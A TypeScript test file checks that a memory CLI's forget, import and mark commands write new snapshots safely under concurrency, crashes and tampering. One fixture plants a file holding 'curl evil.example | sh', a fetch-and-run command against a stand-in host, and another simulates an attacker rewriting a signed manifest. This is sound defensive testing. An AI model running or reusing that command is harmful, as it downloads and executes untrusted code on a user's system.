/**
 * A memory command's change to a memory-path is kept as a new snapshot beside the one it read
 * (src/cli/new-snapshot.ts), found by an attacker review of the memory's rewrites (stop 44). Runs
 * here are the store as the action's main step uses it (SnapshotMemoryStore over the directory
 * backend, with Recall's own files), the commands the CLI as it ships (dist/cli) or its entry point.
 * Each test performs what the review did and fails with changes made in place again:
 *  - a forget, an import and a wrong mark made while a run works, which that run's save undid;
 *  - a change pointed at an older snapshot, which took a new time and hid the newest;
 *  - a command killed at each rename it makes, which left the newest snapshot unusable;
 *  - two commands at once, where the last to put its files back won and both exited 0.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { memoryCommand } from '../../src/cli/memory-cli.js';
import { readManifest, writeManifest } from '../../src/memory/manifest.js';
import { recallFiles } from '../../src/forget/forget.js';
import { DirectoryBackend } from '../../src/memory/directory.js';
import { checkMemory } from '../../src/memory/integrity.js';
import { memoryKeys } from '../../src/memory/keys.js';
import { RECORDS_FILE } from '../../src/memory/layout.js';
import { sessionIdsIn } from '../../src/memory/merge.js';
import { SnapshotMemoryStore } from '../../src/memory/snapshot-store.js';
import type { RunRecord } from '../../src/ports.js';
import { loadRecords, saveRecords } from '../../src/recall/index-file.js';
import { sentTurnsIn } from '../../src/recall/threads.js';
import { REPO_ROOT } from '../harness/runner.js';
import { sessionId, writeStore } from '../harness/store-fixture.js';

const CLI = path.join(REPO_ROOT, 'dist', 'cli', 'index.js');
let root: string;
const memory = () => path.join(root, 'memory-path');
beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'recall-new-snapshot-'));
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

const record = (id: string, session: string): RunRecord => ({
  id,
  kind: 'run',
  threadKey: `issue-${id}`,
  event: 'issues',
  title: `Run ${id}`,
  request: 'look',
  outcome: 'answered',
  text: `Found in ${id}.`,
  labels: [],
  paths: [],
  errors: [],
  citations: [],
  links: [],
  at: new Date(Date.now() - 86_400_000).toISOString(),
  sessionId: sessionId(session),
});

/** A run's restore on a runner of its own (the real clock: a command in between is later than it, and its save later still). */
async function begin(run: string) {
  const memoryDir = path.join(root, `runner-${run}`, 'memory');
  const clock = () => new Date();
  const warnings: string[] = [];
  const store = new SnapshotMemoryStore({
    memoryDir,
    backend: new DirectoryBackend(memory(), memoryKeys('recall', run, '1', clock()), clock),
    log: { info: () => undefined, warning: (w) => void warnings.push(w) },
    clock,
    sentTurns: sentTurnsIn,
    recallFiles,
  });
  const restored = await store.restore();
  const sessions = fs.existsSync(path.join(memoryDir, 'opencode.db')) ? sessionIdsIn(memoryDir) : [];
  const loaded = loadRecords(memoryDir);
  return { store, memoryDir, sessions, loaded, restored, warnings };
}

/** The run's end: its session and record added to what it restored, then its save. */
async function finish(b: Awaited<ReturnType<typeof begin>>, session: string) {
  for (const f of ['opencode.db', 'opencode.db-wal', 'opencode.db-shm']) fs.rmSync(path.join(b.memoryDir, f), { force: true });
  writeStore(b.memoryDir, [...new Set([...b.sessions, sessionId(session)])].map((id) => ({ id, said: ['x'] })));
  saveRecords(path.join(b.memoryDir, RECORDS_FILE), [...b.loaded.records, record(`run-${session}`, session)], b.loaded.forgotten);
  const saved = await b.store.save();
  expect(saved.saved, b.warnings.join('\n')).toBe(true);
  return saved;
}

/** The memory CLI's entry point, as `recall memory ...` calls it; its exit code and what it said. */
async function cli(...args: string[]) {
  const said: string[] = [];
  let code: number | void | 'threw';
  try {
    code = (await memoryCommand(args, { out: (l) => void said.push(l), err: (l) => void said.push(l) })) ?? 0;
  } catch (error) {
    said.push(String(error));
    code = 'threw';
  }
  return { code, said: said.join('\n') };
}

/** What the next run restores: its status, sessions, records, forgotten ids and wrong marks. */
async function nextRun(run: string) {
  const b = await begin(run);
  return {
    status: b.restored.status,
    sessions: b.sessions,
    records: b.loaded.records.map((r) => r.id).sort(),
    forgotten: b.loaded.forgotten.map((t) => t.id),
    wrong: b.loaded.records.filter((r) => r.wrong).map((r) => r.id),
  };
}

const FILE_LINE = `${JSON.stringify({ id: 'legacy-1', kind: 'run', title: 'Old bug', createdAt: '2026-01-01T00:00:00Z' })}\n`;

describe('a change made while a run works', () => {
  it('a forget is kept through that run\'s save: the run after it has neither the record nor its session', async () => {
    await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const working = await begin('3');
    expect(working.loaded.records.map((r) => r.id).sort()).toEqual(['run-one', 'run-two']);
    const forget = await cli('forget', '--store', memory(), '--id', 'run-one');
    expect(forget.code, forget.said).toBe(0);
    await finish(working, 'three');
    const after = await nextRun('4');
    expect(after.status).toBe('hit');
    expect(after.records).toEqual(['run-three', 'run-two']);
    expect(after.forgotten).toEqual(['run-one']);
    expect(after.sessions).not.toContain(sessionId('one'));
    expect(after.sessions).toEqual(expect.arrayContaining([sessionId('two'), sessionId('three')]));
  });

  it("a forget that lands between the run's look for newer saves and its put is merged, not lost, and the run's own session is kept", async () => {
    await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const working = await begin('3');
    const put = DirectoryBackend.prototype.put;
    let landed = false;
    const spy = vi.spyOn(DirectoryBackend.prototype, 'put').mockImplementation(async function (this: DirectoryBackend, ...args: Parameters<DirectoryBackend['put']>) {
      if (!landed) {
        landed = true;
        const forget = spawnSync(process.execPath, [CLI, 'memory', 'forget', '--store', memory(), '--id', 'run-one'], { encoding: 'utf8' });
        expect(forget.status, forget.stderr).toBe(0);
      }
      return put.apply(this, args);
    });
    try {
      await finish(working, 'three');
    } finally {
      spy.mockRestore();
    }
    expect(landed).toBe(true);
    const after = await nextRun('4');
    expect([after.records, after.forgotten]).toEqual([['run-three', 'run-two'], ['run-one']]);
    expect(after.sessions).toEqual(expect.arrayContaining([sessionId('two'), sessionId('three')]));
    expect(after.sessions).not.toContain(sessionId('one'));
  });

  it('an import and a wrong mark are kept through that run\'s save', async () => {
    await finish(await begin('1'), 'one');
    const working = await begin('2');
    const file = path.join(root, 'in.jsonl');
    fs.writeFileSync(file, FILE_LINE);
    expect((await cli('import', '--store', memory(), '--file', file)).code).toBe(0);
    const wrong = await cli('wrong', '--store', memory(), '--id', 'run-one');
    expect(wrong.code, wrong.said).toBe(0);
    await finish(working, 'two');
    const after = await nextRun('3');
    expect(after.records).toEqual(['legacy-1', 'run-one', 'run-two']);
    expect(after.wrong).toEqual(['run-one']);
  });
});

describe('the new snapshot', () => {
  it('holds what a save keeps and nothing else: a file planted beside the memory files is not carried into it', async () => {
    const saved = await finish(await begin('1'), 'one');
    fs.writeFileSync(path.join(memory(), saved.key!, 'planted.sh'), 'curl evil.example | sh\n');
    expect((await cli('wrong', '--store', memory(), '--id', 'run-one')).code).toBe(0);
    const made = fs.readdirSync(memory()).filter((f) => f.startsWith('recall-v1-cli-'));
    expect(made).toHaveLength(1);
    expect(fs.readdirSync(path.join(memory(), made[0]!)).sort()).toEqual(['opencode.db', 'recall-index.json', 'recall-manifest.json', 'recall-marks.json', 'recall-threads.json']);
  });
});

describe('with a signing key', () => {
  const secret = 'a-long-random-signing-secret-0123456789';
  afterEach(() => void delete process.env.RECALL_MEMORY_SIGNING_KEY);

  it('the new snapshot is signed over the manifest that was checked, not one rewritten in the folder meanwhile', async () => {
    const key = 'recall-v1-7-1-20261125T120000Z';
    const snapshot = path.join(memory(), key);
    writeStore(snapshot, [{ id: sessionId('one'), said: ['x'] }]);
    saveRecords(path.join(snapshot, RECORDS_FILE), [record('run-one', 'one'), record('run-two', 'two')]);
    const place = `directory ${memory()}`;
    writeManifest(snapshot, { now: new Date(Date.now() - 60_000), signingKey: secret, key, place, earlier: ['recall-v1-6-1-20261124T120000Z'] });
    process.env.RECALL_MEMORY_SIGNING_KEY = secret;
    await memoryCommand(['wrong', '--store', memory(), '--id', 'run-two'], {
      out: () => undefined,
      err: () => undefined,
      checked: () => {
        // Whoever can write the memory-path rewrites the manifest after the check: another place, other earlier snapshots.
        const live = JSON.parse(fs.readFileSync(path.join(snapshot, 'recall-manifest.json'), 'utf8'));
        fs.writeFileSync(path.join(snapshot, 'recall-manifest.json'), JSON.stringify({ ...live, place: 'directory /victim/memory-path', earlier: ['recall-v1-chosen-1-20200101T000000Z'], partial: { unread: ['x'], since: '2026-01-01T00:00:00Z' } }));
      },
    } as Parameters<typeof memoryCommand>[1]);
    const made = fs.readdirSync(memory()).filter((f) => f.startsWith('recall-v1-cli-'));
    expect(made).toHaveLength(1);
    const manifest = readManifest(path.join(memory(), made[0]!))!;
    expect([manifest.place, manifest.earlier, manifest.partial]).toEqual([place, [key, 'recall-v1-6-1-20261124T120000Z'], undefined]);
    expect(checkMemory(path.join(memory(), made[0]!), { signingKey: secret, restoredAs: { key: made[0]!, place } }).verdict).toBe('ok');
  });
});

describe('a change pointed at a snapshot that is not the newest', () => {
  it('named as `.` from inside it, or through a link, is the same snapshot: refused the same way', async () => {
    const first = await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const before = fs.readdirSync(memory()).sort();
    const older = path.join(memory(), first.key!);
    const savedAt = () => readManifest(older)?.savedAt;
    const was = savedAt();
    fs.symlinkSync(older, path.join(root, 'link'));
    for (const [cwd, store] of [[older, '.'], [root, 'link']] as const) {
      const run = spawnSync(process.execPath, [CLI, 'memory', 'forget', '--store', store, '--id', 'run-one'], { cwd, encoding: 'utf8' });
      expect(run.status, `${store}: ${run.stdout}`).not.toBe(0);
      expect(run.stderr, store).toMatch(/is not the newest snapshot of/);
    }
    expect([fs.readdirSync(memory()).sort(), savedAt()]).toEqual([before, was]);
  });

  it('is refused, and nothing is written: the newest stays the newest', async () => {
    const first = await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const before = fs.readdirSync(memory()).sort();
    const forget = await cli('forget', '--store', path.join(memory(), first.key!), '--id', 'run-one');
    expect(forget.code).toBe('threw');
    expect(forget.said).toMatch(/is not the newest snapshot of .+ \(recall-v1-2-1-\d{8}T\d{6}Z is\): a change kept from it would hide that one's sessions, so nothing was changed/);
    expect(fs.readdirSync(memory()).sort()).toEqual(before);
    const after = await nextRun('3');
    expect(after.sessions).toEqual(expect.arrayContaining([sessionId('one'), sessionId('two')]));
    expect(after.forgotten).toEqual([]);
  });
});

describe('a command killed at each rename it makes', () => {
  it('leaves the memory as it was or as changed, never unusable; run again, the forget holds', async () => {
    await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const forget = ['memory', 'forget', '--store', memory(), '--id', 'run-one'];
    // How many renames a whole forget makes: each is a point it is killed at below.
    const traced = spawnSync('strace', ['-f', '-qq', '-e', 'trace=rename,renameat,renameat2', '-o', path.join(root, 'renames'), process.execPath, CLI, ...forget], { encoding: 'utf8' });
    expect(traced.status, `${traced.stdout}\n${traced.stderr}\n${traced.error ?? ''}`).toBe(0);
    // Those of the process itself (libuv's threads count their calls apart, and rename nothing here).
    // Each call's start (under load strace splits a call into "<unfinished ...>" and "resumed" lines).
    const lines = fs.readFileSync(path.join(root, 'renames'), 'utf8').split('\n').filter((l) => /^\d+\s+rename\w*\(/.test(l));
    const pid = (l: string) => l.split(/\s+/)[0];
    const renames = lines.filter((l) => pid(l) === pid(lines[0] ?? '')).length;
    expect(renames).toBeGreaterThan(1);
    const kept = fs.readdirSync(memory()).filter((f) => f.startsWith('recall-v1-cli-'));
    expect(kept).toHaveLength(1);
    fs.rmSync(path.join(memory(), kept[0]!), { recursive: true });
    let kills = 0;
    let atItsOwnRename = 0;
    // A few past the count: the renames of its scratch copy vary by a rename or two from call to call.
    for (let when = 1; when <= renames + 3; when++) {
      const run = spawnSync('strace', ['-f', '-qq', '-o', '/dev/null', '-e', 'trace=rename,renameat,renameat2', '-e', `inject=rename,renameat,renameat2:signal=KILL:when=${when}`, process.execPath, CLI, ...forget], { encoding: 'utf8' });
      const after = await nextRun(`k${when}`);
      expect(after.status, `rename ${when}: ${run.status} ${run.signal} ${run.stderr}`).toBe('hit');
      if (run.status === 0) {
        // A forget of fewer renames (the count varies by a rename or so) ran to its end: memory as changed.
        expect([after.records, after.forgotten], `rename ${when}`).toEqual([['run-two'], ['run-one']]);
        for (const made of fs.readdirSync(memory()).filter((f) => f.startsWith('recall-v1-cli-'))) fs.rmSync(path.join(memory(), made), { recursive: true });
        continue;
      }
      kills++;
      // Killed at the rename of its snapshot into place: the snapshot was written whole, hidden.
      const hidden = fs.readdirSync(memory()).filter((f) => f.startsWith('.incoming-'));
      if (hidden.length > 0) atItsOwnRename++;
      for (const f of hidden) fs.rmSync(path.join(memory(), f), { recursive: true });
      // Killed before its snapshot was renamed into place: memory is as it was, whole and usable.
      expect(after.sessions, `killed at rename ${when}`).toEqual(expect.arrayContaining([sessionId('one'), sessionId('two')]));
      expect(after.records, `killed at rename ${when}`).toEqual(['run-one', 'run-two']);
    }
    expect(kills).toBeGreaterThanOrEqual(3);
    expect(atItsOwnRename).toBeGreaterThanOrEqual(1);
    const again = spawnSync(process.execPath, [CLI, ...forget], { encoding: 'utf8' });
    expect(again.status, again.stderr).toBe(0);
    const after = await nextRun('last');
    expect([after.records, after.forgotten]).toEqual([['run-two'], ['run-one']]);
    expect(after.sessions).not.toContain(sessionId('one'));
  });
});

describe('two commands at once', () => {
  it('the one that keeps its change second is refused and says so; the first one\'s change stands', async () => {
    await finish(await begin('1'), 'one');
    await finish(await begin('2'), 'two');
    const file = path.join(root, 'in.jsonl');
    fs.writeFileSync(file, FILE_LINE);
    let inner: ReturnType<typeof spawnSync> | undefined;
    const said: string[] = [];
    let outer: unknown;
    try {
      // The import, between its check and its keep, while a forget runs to its end.
      await memoryCommand(['import', '--store', memory(), '--file', file], {
        out: (l) => void said.push(l),
        err: (l) => void said.push(l),
        checked: () => {
          inner = spawnSync(process.execPath, [CLI, 'memory', 'forget', '--store', memory(), '--id', 'run-one'], { encoding: 'utf8' });
        },
      } as Parameters<typeof memoryCommand>[1]);
    } catch (error) {
      outer = error;
    }
    expect(inner?.status, String(inner?.stderr)).toBe(0);
    expect(String(outer)).toMatch(/recall-v1-cli-[0-9a-f]{8}-\d{8}T\d{6}Z was saved after this command read recall-v1-2-1-\d{8}T\d{6}Z \(a run, or another memory command\); nothing was changed: run the command again/);
    let after = await nextRun('3');
    expect([after.records, after.forgotten]).toEqual([['run-two'], ['run-one']]);
    // Run again, the import lands on the forget.
    expect((await cli('import', '--store', memory(), '--file', file)).code).toBe(0);
    after = await nextRun('4');
    expect([after.records, after.forgotten]).toEqual([['legacy-1', 'run-two'], ['run-one']]);
  });

  it('on a folder of its own (changed in place), the second is refused too: nothing is written over the first', async () => {
    const own = path.join(root, 'own');
    writeStore(own, [sessionId('one'), sessionId('two')].map((id) => ({ id })));
    saveRecords(path.join(own, RECORDS_FILE), [record('run-one', 'one'), record('run-two', 'two')]);
    const file = path.join(root, 'in.jsonl');
    fs.writeFileSync(file, FILE_LINE);
    let inner: ReturnType<typeof spawnSync> | undefined;
    let outer: unknown;
    try {
      await memoryCommand(['import', '--store', own, '--file', file], {
        out: () => undefined,
        err: () => undefined,
        checked: () => {
          inner = spawnSync(process.execPath, [CLI, 'memory', 'forget', '--store', own, '--id', 'run-one'], { encoding: 'utf8' });
        },
      } as Parameters<typeof memoryCommand>[1]);
    } catch (error) {
      outer = error;
    }
    expect(inner?.status, String(inner?.stderr)).toBe(0);
    expect(String(outer)).toMatch(/own changed after memory import read it \(another memory command\?\); nothing was changed: run the command again/);
    const held = loadRecords(own);
    expect([held.records.map((r) => r.id), held.forgotten.map((t) => t.id)]).toEqual([['run-two'], ['run-one']]);
  });
});
